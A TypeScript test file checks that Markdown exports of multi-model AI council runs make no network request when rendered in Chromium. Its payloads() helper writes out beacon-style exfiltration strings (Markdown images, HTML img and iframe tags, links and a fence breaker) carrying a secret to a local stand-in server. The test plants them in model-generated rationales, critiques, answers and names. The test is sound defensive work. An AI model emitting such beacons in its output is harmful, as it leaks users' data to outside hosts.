/**
 * An export cannot call home: a run whose model text holds image beacons, links, raw HTML and
 * bare URLs (in rationales, critiques, reasons, answers, display names and errors) is exported
 * as Markdown, rendered by a stock markdown-it (default, and with html + linkify on) and opened
 * in Chromium. A server on 127.0.0.1 counts hits; the page must make no request at all.
 */
import { strict as assert } from 'node:assert';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import MarkdownIt from 'markdown-it';
import { exportRun } from '../../src/app/export-run';
import { runConsensus, runVote } from '../../src/core/engine';
import { MemoryTranscript, createScriptedCouncil, distinctText } from '../support/scripted-council';
import { launchChromium, type Browser } from '../webview/panel-harness';

function payloads(origin: string, where: string): string {
  const url = `${origin}/beacon/${where}?secret=SELECTION-SECRET`;
  return [
    `![pixel](${url}-img)`,
    `<img src="${url}-html">`,
    `[click me](${url}-link)`,
    `<${url}-autolink>`,
    `${url}-bare`,
    `<iframe src="${url}-iframe"></iframe>`,
    `\`\`\`\n![fence breaker](${url}-fence)\n`,
  ].join('\n\n');
}

async function beaconRuns(origin: string) {
  const council = createScriptedCouncil({
    product: (index, phase) => (phase === 'draft' ? distinctText(index) : 'agreed\nproduct'),
    critique: () => [payloads(origin, 'critique')],
    score: () => 9,
    override: (_index, call) => {
      if (call.schemaName === 'draft')
        return { json: { product: 'p', rationale: payloads(origin, 'rationale') } };
      if (call.schemaName === 'ratification')
        return { json: { vote: 'object', reasons: [payloads(origin, 'reason')] } };
      return undefined;
    },
  });
  council.participants[0]!.displayName = `Evil ![n](${origin}/beacon/name?secret=S)`;
  const consensus = new MemoryTranscript();
  await runConsensus(
    { runId: 'run-beacon', task: 'Write it', outputKind: 'text', seed: 3, maxRounds: 1 },
    { participants: council.participants, transcript: consensus },
  );
  const voters = createScriptedCouncil({
    product: () => '',
    override: (_index, call) =>
      call.schemaName === 'vote_answer'
        ? { json: { answer: payloads(origin, 'answer'), reasoning: 'r' } }
        : undefined,
  });
  const vote = new MemoryTranscript();
  await runVote(
    { runId: 'vote-beacon', question: 'Which?', strategy: 'majority' },
    { participants: voters.participants, transcript: vote },
  );
  return [consensus.records(), vote.records()];
}

describe('Markdown export in Chromium with a stock renderer: no request', function () {
  this.timeout(60_000);
  let browser: Browser;
  let server: Server;
  let origin: string;
  const hits: string[] = [];

  before(async () => {
    server = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end('x');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  for (const options of [{}, { html: true, linkify: true }]) {
    it(`renders with markdown-it ${JSON.stringify(options)}: no image, link or HTML from model text`, async () => {
      hits.length = 0;
      const markdown = (await beaconRuns(origin))
        .map((records) => exportRun('x', records, 'markdown'))
        .join('\n\n');
      // The attack is in the export, as text.
      for (const where of ['rationale', 'critique', 'reason', 'answer', 'name'])
        assert.ok(markdown.includes(`/beacon/${where}`), `the ${where} payload is exported`);
      const html = new MarkdownIt(options).render(markdown);
      const page = await browser.context.newPage();
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      await page.setContent(`<!doctype html><html><body>${html}</body></html>`, {
        waitUntil: 'networkidle',
      });
      const live = await page.evaluate(() => ({
        images: document.querySelectorAll('img, iframe, video, audio, source, object').length,
        links: document.querySelectorAll('a[href]').length,
        text: document.body.innerText.length,
      }));
      await page.close();
      assert.ok(live.text > 1000, 'the export rendered');
      assert.deepEqual({ images: live.images, links: live.links }, { images: 0, links: 0 });
      assert.deepEqual(requests, []);
      assert.deepEqual(hits, []);
    });
  }
});
